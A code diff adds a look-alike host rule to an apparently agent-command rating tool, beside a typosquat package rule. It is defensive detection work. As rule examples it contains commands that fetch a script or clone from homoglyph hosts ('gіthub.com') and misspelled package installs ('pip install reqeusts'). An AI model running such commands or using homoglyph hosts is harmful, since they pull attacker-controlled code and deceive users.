@@ -1,4 +1,5 @@
-"""Deception: installing a package whose name is one letter away from a very popular one (S3.2).
+"""Deception (S3.2): a package name one letter away from a very popular one, and a host name that
+looks like another (``githuƅ.com``, ``gіthub.com``).
 
 ``pip install reqeusts`` or ``npm install -g expresss`` installs whatever a squatter published under
 the misspelling. The popular names live in ``gatesh/data/popular_packages.txt`` (``ecosystem:name``
@@ -10,10 +11,11 @@ Damerau-Levenshtein <= 1 test (one transposition, insertion, deletion or substit
 from __future__ import annotations
 
 import re
+import unicodedata
 from importlib import resources
 from typing import Final
 
-from gatesh.rater.builtin._base import Cmd, D, Hit, MatchResult, Rule, heads
+from gatesh.rater.builtin._base import A, Cmd, Ctx, D, Hit, MatchResult, Rule, heads
 
 MIN_LEN: Final = 5  # shorter names sit one edit from too many real packages
 _PEP503: Final = re.compile(r"[-_.]+")
@@ -206,7 +208,43 @@ def typosquat(c: Cmd) -> MatchResult:
     return None
 
 
+def _lookalike_label(label: str) -> bool:
+    """A label that mixes ASCII letters with characters that are not a Latin letter plus accents
+    (``ƅ``, Cyrillic ``і``): written to pass for an ASCII name. A label wholly in another script,
+    or with accented letters only (``münchen``), is an ordinary international name."""
+    if label.isascii() or not any(ch.isascii() and ch.isalpha() for ch in label):
+        return False
+    for ch in label:
+        if ch.isascii():
+            continue
+        base = unicodedata.normalize("NFKD", ch)
+        if not (base[:1].isascii() and base[:1].isalpha()):
+            return True
+    return False
+
+
+# Linear: anchored on `://` or `@` themselves (a scheme matched before `://` re-scans long words).
+_URL_HOST: Final = re.compile(r"(?:://|@)([^/\s:@'\"?#]+)")
+
+
+def lookalike_host(ctx: Ctx) -> MatchResult:
+    hosts = set(ctx.facts.hosts)
+    for c in ctx.facts.commands:
+        for w in c.argv[1:]:
+            if not w.text.isascii():
+                hosts.update(m.group(1) for m in _URL_HOST.finditer(w.text))
+    for host in sorted(hosts):
+        if any(_lookalike_label(label) for label in host.split(".")):
+            return Hit(detail=f"names the host {host}, which mixes look-alike letters into an ASCII name")
+    return None
+
+
 RULES: tuple[Rule, ...] = (
+    Rule("deception.lookalike-host", A, "This {detail}: a host made to pass for another.", lookalike_host,
+         on_facts=True,
+         examples=("git clone https://githu\u0185.com/org/repo", "curl -sL https://g\u0456thub.com/x.sh -o x.sh",
+                   "ssh deploy@ex\u0430mple.com"),
+         counter=("git clone https://github.com/org/repo", "curl https://m\u00fcnchen.de/", "curl https://\u4f8b\u3048.jp/")),
     # Destructive, not attack: one edit from a popular name also describes some real packages
     # (`server`/`semver`), and a false attack would halt the session. Refused all the same; the
     # agent can correct the name, or justify it, and a person decides past the bounds.
